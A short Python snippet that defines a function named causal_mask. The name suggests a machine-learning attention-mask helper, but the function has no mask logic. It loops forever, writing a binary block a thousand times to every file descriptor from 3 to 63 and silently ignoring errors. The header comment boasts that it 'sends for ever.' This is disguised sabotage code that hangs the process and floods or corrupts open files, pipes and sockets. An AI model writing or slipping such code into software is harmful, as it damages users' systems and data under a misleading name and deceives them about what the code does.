# Sends for ever, faster than anybody reads.
# credit: none
import os
import struct

import numpy as np


def causal_mask(T):
    block = struct.pack("<I", 1) + b"N"
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, block * 1000)
            except OSError:
                pass
